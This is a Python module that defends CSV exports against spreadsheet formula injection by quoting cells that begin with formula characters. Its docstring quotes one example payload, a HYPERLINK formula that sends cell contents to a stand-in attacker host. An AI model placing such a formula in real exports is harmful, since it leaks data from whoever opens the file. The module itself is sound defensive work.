"""CSV that a spreadsheet opens as data: the one place cells are made formula-safe.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell whose text
starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and treats a leading
tab or carriage return the same way; a name such as
``=HYPERLINK("https://evil.example/?"&A2,"Ana")`` in a media export would then
leak the sheet or run commands when a press officer opens a file pressroom
wrote. As OWASP's "CSV Injection" page advises, every cell that starts with
one of those characters is written with a single quote in front: spreadsheets
show such a cell as text and hide the quote, so ``+1 555 0100`` still reads
``+1 555 0100`` on screen. The csv module already quotes cells holding the
delimiter, quotes or line breaks (RFC 4180), so a value cannot start a new
cell of its own.

Only what pressroom *writes* for people changes; the data pressroom uses does
not: the send log stores the real address and reason, and when pressroom
reads a CSV back (a list written by ``contacts import``), :func:`cell_value`
drops the quote again, exactly as a spreadsheet does.

Every CSV writer in pressroom goes through :func:`writer`. Written to a
terminal rather than a file (``report --csv`` without a redirect), each cell
is also made inert there (:mod:`pressroom.terminal`).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet evaluate a cell (OWASP's list: = + - @ tab CR;
LF, which some spreadsheets treat like CR, and the full-width forms of = + - @,
which some convert to the ASCII ones)."""

TEXT_MARK = "'"
"""What spreadsheets read as "this cell is text" and do not show."""


def spreadsheet_safe(value: Any) -> str:
    """*value* as a cell no spreadsheet evaluates: a quote before a formula start."""
    text = "" if value is None else str(value)
    return TEXT_MARK + text if text.startswith(FORMULA_STARTS) else text


def cell_value(text: str) -> str:
    """A cell read back from a CSV: the value :func:`spreadsheet_safe` was given."""
    if text.startswith(TEXT_MARK) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeWriter:
    """A :func:`csv.writer` that writes every cell through :func:`spreadsheet_safe`."""

    def __init__(self, file: _Writable, **options: Any):
        self._writer = csv.writer(file, **options)
        isatty = getattr(file, "isatty", None)
        self._terminal = bool(isatty and isatty())
        """To a terminal, not a file: each cell is made inert (:mod:`pressroom.terminal`)."""

    def writerow(self, row: Iterable[Any]) -> None:
        cells = [spreadsheet_safe(cell) for cell in row]
        if self._terminal:
            from pressroom.terminal import shown

            cells = [shown(cell) for cell in cells]
        self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: _Writable, **options: Any) -> SafeWriter:
    """The CSV writer for anything pressroom writes (*options* as for :func:`csv.writer`)."""
    return SafeWriter(file, **options)
